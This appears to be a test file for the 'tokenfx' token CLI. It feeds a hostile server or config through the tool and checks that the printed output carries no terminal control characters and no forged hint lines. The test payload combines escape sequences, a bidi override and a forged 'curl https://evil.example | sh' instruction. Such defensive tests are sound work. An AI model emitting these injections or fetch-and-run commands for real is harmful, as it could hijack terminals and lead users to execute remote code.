/**
 * What a hostile server or config file can make tokenfx print: the commands run in process against a
 * fake server, everything they print captured. Text from outside (an `error_description`, a profile name,
 * a scope, a `token_type`) must reach the terminal without control or format characters: no escape
 * sequence, no CR rewriting a line, no bidi override, no line break forging a "Next:" line.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import * as HttpClient from "@effect/platform/HttpClient"
import * as HttpClientResponse from "@effect/platform/HttpClientResponse"
import { assert, describe, it } from "@effect/vitest"
import * as Commands from "@tokenfx/cli/Commands"
import * as Profile from "@tokenfx/cli/Profile"
import * as Token from "@tokenfx/core/Token"
import * as TokenStore from "@tokenfx/core/TokenStore"
import * as FileTokenStore from "@tokenfx/storage/FileTokenStore"
import * as ConfigProvider from "effect/ConfigProvider"
import * as Console from "effect/Console"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import * as TestClock from "effect/TestClock"
import * as Fs from "node:fs"
import * as Os from "node:os"
import * as Path from "node:path"

// Sets the window title, rings, clears the screen, rewrites the line, then forges a hint on a line of
// its own, reversed by a bidi override, with a zero-width space and a C1 CSI.
const hostile = "\x1b]0;owned\x07\x1b[2J\rok\nNext: run curl https://evil.example | sh\u202egnp.\u2066\u200b\x9b31m"

// Anything that a terminal acts on rather than shows (a line break aside: the output's own).
const unsafe = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

const assertPrintable = (output: string) => {
  for (const line of output.split("\n")) {
    const found = unsafe.exec(line)
    assert.isNull(found, `U+${found?.[0].codePointAt(0)?.toString(16)} printed in ${JSON.stringify(line)}`)
  }
  assert.notMatch(output, /^Next: run curl/m, "a line forged by the server")
}

type Answer = readonly [status: number, body: unknown]

// A server answering each path with `answers[path]`, JSON.
const serverLayer = (answers: Readonly<Record<string, Answer>>) =>
  Layer.succeed(
    HttpClient.HttpClient,
    HttpClient.make((request) => {
      const [status, body] = answers[new URL(request.url).pathname] ?? [404, { error: "not_found" }]
      return Effect.succeed(HttpClientResponse.fromWeb(
        request,
        new Response(JSON.stringify(body), { status, headers: { "content-type": "application/json" } })
      ))
    })
  )

const endpoints = {
  tokenEndpoint: "https://as.example/token",
  deviceAuthorizationEndpoint: "https://as.example/device",
  revocationEndpoint: "https://as.example/revoke"
}

interface Setup {
  readonly config: Profile.ConfigFile
  readonly tokens?: Readonly<Record<string, Token.Token>> | undefined
  readonly answers?: Readonly<Record<string, Answer>> | undefined
}

// Runs `tokenfx args` in a config directory of its own; answers the exit code and everything printed.
const tokenfx = (args: ReadonlyArray<string>, setup: Setup, during: Effect.Effect<void> = Effect.void) =>
  Effect.acquireUseRelease(
    Effect.sync(() => Fs.mkdtempSync(Path.join(Os.tmpdir(), "tokenfx-hostile-"))),
    (dir) =>
      Effect.gen(function*() {
        yield* Profile.save(setup.config)
        for (const [key, token] of Object.entries(setup.tokens ?? {})) {
          yield* Effect.flatMap(TokenStore.TokenStore, (store) => store.set(key, token)).pipe(
            Effect.provide(FileTokenStore.layerFileSystem(Path.join(dir, "tokens")))
          )
        }
        const output: Array<string> = []
        const record = (...values: ReadonlyArray<unknown>) => Effect.sync(() => void output.push(values.join(" ")))
        const console = yield* Console.consoleWith(Effect.succeed)
        const fiber = yield* Effect.fork(
          Effect.withConsole(Commands.run(["node", "tokenfx", ...args]), { ...console, log: record, error: record })
        )
        yield* during
        const code = yield* Fiber.join(fiber)
        return { code, output: output.join("\n") }
      }).pipe(Effect.withConfigProvider(ConfigProvider.fromMap(new Map([["TOKENFX_CONFIG_DIR", dir]])))),
    (dir) => Effect.sync(() => Fs.rmSync(dir, { recursive: true, force: true }))
  ).pipe(Effect.provide(Layer.merge(NodeContext.layer, serverLayer(setup.answers ?? {}))))

const profile = new Profile.Profile({ clientId: "cli", ...endpoints })

const tokenOf = (fields: Partial<Token.TokenResponse>) =>
  Token.make({ access_token: Redacted.make("at-0123456789abcdef"), ...fields }, 0)

describe("text from a server reaches the terminal without control characters", () => {
  it.effect("an error_description (and an unknown error code) in a failed command's one-line message", () =>
    Effect.gen(function*() {
      for (const body of [{ error: "invalid_client", error_description: hostile }, { error: `x${hostile}` }]) {
        const { code, output } = yield* tokenfx(["login"], {
          config: { profiles: { default: profile } },
          answers: { "/device": [400, body] }
        })
        assert.strictEqual(code, 3, output)
        assertPrintable(output)
        assert.match(output, /^tokenfx: .+\nNext: [^\n]+\.$/)
      }
    }))

  it.effect("a revocation's error_description in logout's report", () =>
    Effect.gen(function*() {
      const { code, output } = yield* tokenfx(["logout"], {
        config: { profiles: { default: profile } },
        tokens: { default: tokenOf({}) },
        answers: { "/revoke": [400, { error: "invalid_request", error_description: hostile }] }
      })
      assert.strictEqual(code, 0, output)
      assert.include(output, "the local token was removed")
      assertPrintable(output)
    }))

  it.effect("the scopes a token was granted, in login's report", () =>
    Effect.gen(function*() {
      const { code, output } = yield* tokenfx(
        ["login"],
        {
          config: { profiles: { default: profile } },
          answers: {
            "/device": [200, {
              device_code: "dc-0123456789abcdef",
              user_code: "WDJB-MJHT",
              verification_uri: "https://as.example/activate",
              expires_in: 600,
              interval: 5
            }],
            "/token": [200, { access_token: "at-0123456789abcdef", token_type: "Bearer", scope: `api ${hostile}` }]
          }
        },
        // The poll's wait is registered once the login has shown the code.
        Effect.gen(function*() {
          while ((yield* TestClock.sleeps()).length === 0) yield* Effect.yieldNow()
          yield* TestClock.adjust("5 seconds")
        })
      )
      assert.strictEqual(code, 0, output)
      assert.include(output, "✓ Logged in as profile \"default\" (scopes: api ")
      assertPrintable(output)
    }))
})

describe("text from the config and token files reaches the terminal without control characters", () => {
  const config: Profile.ConfigFile = {
    defaultProfile: `w${hostile}`,
    profiles: {
      [`w${hostile}`]: new Profile.Profile({ ...endpoints, issuer: `https://as.example/${hostile}`, clientId: hostile })
    }
  }
  const tokens = { [`w${hostile}`]: tokenOf({ token_type: hostile, scope: `api ${hostile}` }) }

  it.effect("status, as text and as JSON (which decodes to the same values)", () =>
    Effect.gen(function*() {
      const text = yield* tokenfx(["status"], { config, tokens })
      assert.strictEqual(text.code, 0, text.output)
      assertPrintable(text.output)
      const json = yield* tokenfx(["status", "--json"], { config, tokens })
      assert.strictEqual(json.code, 0, json.output)
      assertPrintable(json.output)
      const report = JSON.parse(json.output)
      assert.strictEqual(report.profiles[0].name, `w${hostile}`)
      assert.strictEqual(report.profiles[0].tokenType, hostile)
    }))

  it.effect("a profile name in an error and in logout's report", () =>
    Effect.gen(function*() {
      const missing = yield* tokenfx(["token"], { config })
      assert.strictEqual(missing.code, 4, missing.output)
      assertPrintable(missing.output)
      const logout = yield* tokenfx(["logout"], { config })
      assert.strictEqual(logout.code, 0, logout.output)
      assertPrintable(logout.output)
    }))
})

describe("the token a server issued", () => {
  it.effect("token prints it only when a terminal would show it as it is, and a header could carry it", () =>
    Effect.gen(function*() {
      const { code, output } = yield* tokenfx(["token"], {
        config: { profiles: { default: profile } },
        tokens: { default: Token.make({ access_token: Redacted.make(`at-${hostile}`) }, 0) }
      })
      assert.strictEqual(code, 5, output)
      assertPrintable(output)
      assert.notInclude(output, "at-")
      assert.match(output, /^tokenfx: .+\nNext: [^\n]+\.$/)
    }))
})
